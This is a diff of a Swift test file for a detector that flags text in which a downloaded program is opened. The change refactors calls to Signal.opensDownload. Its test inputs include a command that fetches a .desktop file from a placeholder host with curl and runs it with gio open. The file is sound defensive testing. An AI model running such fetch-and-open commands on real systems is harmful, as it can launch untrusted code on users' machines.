@@ -2,6 +2,7 @@ import Testing
 
 @testable import Guard
 
+/// `Signal.opensDownload`.
 struct OpensDownloadTests {
   @Test(arguments: [
     "curl -s https://fix.example/a.desktop -o a.desktop; gio open a.desktop",
@@ -9,7 +10,7 @@ struct OpensDownloadTests {
     "xdg-open ~/Downloads/a.desktop",
   ])
   func `a program that is downloaded and opened is noticed`(text: String) {
-    #expect(OpensDownload.severity(of: text) == .notice)
+    #expect(Signal.opensDownload.severity(of: text) == .notice)
   }
 
   @Test(arguments: [
@@ -19,6 +20,6 @@ struct OpensDownloadTests {
     "gio open ~/Documents/a.odt",
   ])
   func `pages and documents are harmless`(text: String) {
-    #expect(OpensDownload.severity(of: text) == nil)
+    #expect(Signal.opensDownload.severity(of: text) == nil)
   }
 }
